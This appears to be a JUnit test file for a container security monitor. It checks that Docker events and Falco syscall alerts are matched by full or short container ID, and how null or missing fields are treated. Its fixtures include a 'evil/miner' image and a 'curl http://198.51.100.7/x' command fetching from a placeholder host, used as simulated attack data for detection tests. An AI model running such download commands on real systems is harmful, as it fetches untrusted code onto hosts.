package io.tallyman.conformance;

import static io.tallyman.History.START;
import static org.assertj.core.api.Assertions.assertThat;

import io.tallyman.alert.Alert;
import io.tallyman.event.Event;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** C10 and C11: who did it. */
final class IdentityTest {

    private static final Instant SOON = START.plusSeconds(5);
    private static final String ID = "4f3c2b1a9d8e7f60".repeat(4);
    private static final String SHORT_ID = ID.substring(0, 12);

    @ParameterizedTest
    @EnumSource
    void c10AnIdentityKnownOnlyAfterTheExecCompletesTheChain(Kind kind) {
        try (var watch = Watch.live()) {
            watch.see(kind.runs(1, SOON), kind.reaches(1, SOON));
            assertThat(watch.alerts()).isEmpty();
            watch.see(kind.begins(1, START));
            assertThat(watch.said())
                    .singleElement()
                    .satisfies(said -> assertThat(said.missing()).doesNotContain(2, 3, 4, 5));
        }
    }

    @ParameterizedTest
    @EnumSource
    void c10TheAllowListAppliesToAnIdentityKnownOnlyAfterTheExec(Kind kind) {
        try (var watch = Watch.live()) {
            watch.see(kind.runs(1, SOON), kind.reaches(1, SOON));
            watch.see(kind.beginsTrusted(1, START));
            assertThat(watch.end().alerts()).isEmpty();
        }
    }

    private static String docker(String action, String id, Instant time) {
        return """
                {"Type":"container","Action":"%s","Actor":{"ID":"%s","Attributes":{"image":"evil/miner","name":"m"}},\
                "scope":"local","time":%d,"timeNano":%d000000000}""".formatted(action, id, time.getEpochSecond(), time.getEpochSecond());
    }

    private static String falco(String id, String more) {
        return """
                {"hostname":"node-1","output":"x","priority":"Notice","rule":"r","source":"syscall",\
                "time":"2026-11-02T10:00:05.000000000Z","output_fields":{"evt.type":"execve",%s\
                "evt.time":%d000000000,"proc.exepath":"/usr/bin/curl","proc.name":"curl","proc.pid":77,\
                "proc.cmdline":"curl http://198.51.100.7/x"%s}}""".formatted(id, SOON.getEpochSecond(), more);
    }

    private static List<Alert> alerts(String dockerId, String falcoId, String falcoMore) {
        var events = new ArrayList<Event>(RawLogs.read(
                "docker:events",
                "node-1",
                docker("create", dockerId, START.minusSeconds(1)),
                docker("start", dockerId, START)));
        events.addAll(RawLogs.read("falco", "node-1", falco(falcoId, falcoMore)));
        try (var watch = Watch.replay()) {
            return watch.see(events).end().alerts();
        }
    }

    private static String container(String id) {
        return "\"container.id\":\"%s\",".formatted(id);
    }

    @Test
    void c11TwelveAndSixtyFourHexDigitsNameTheSameContainer() {
        assertThat(alerts(ID, container(SHORT_ID), "")).hasSize(1);
        assertThat(alerts(ID, container(ID), "")).hasSize(1);
        assertThat(alerts(ID, container("containerd://" + ID), "")).hasSize(1);
        assertThat(alerts(ID, container(SHORT_ID.replace('4', '5')), "")).isEmpty();
        assertThat(alerts(ID, container(SHORT_ID.substring(0, 8)), "")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                ",\"proc.ppid\":null",
                ",\"proc.pname\":null,\"k8s.ns.name\":null,\"k8s.pod.name\":null",
                ",\"container.image.repository\":null,\"container.image.tag\":null",
                ",\"container.image.repository\":\"\",\"user.name\":\"<NA>\",\"k8s.pod.name\":\"<NA>\"",
                ",\"user.name\":null,\"proc.tty\":null,\"fd.name\":null"
            })
    void c11AFieldThatIsAbsentNullOrSaidNotToApplyIsNotKnown(String fields) {
        assertThat(alerts(ID, container(SHORT_ID), fields)).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "\"container.id\":null,", "\"container.id\":\"\",", "\"container.id\":\"host\","})
    void c11ARecordWithoutContainerIsAboutNone(String container) {
        assertThat(alerts(ID, container, "")).isEmpty();
    }
}
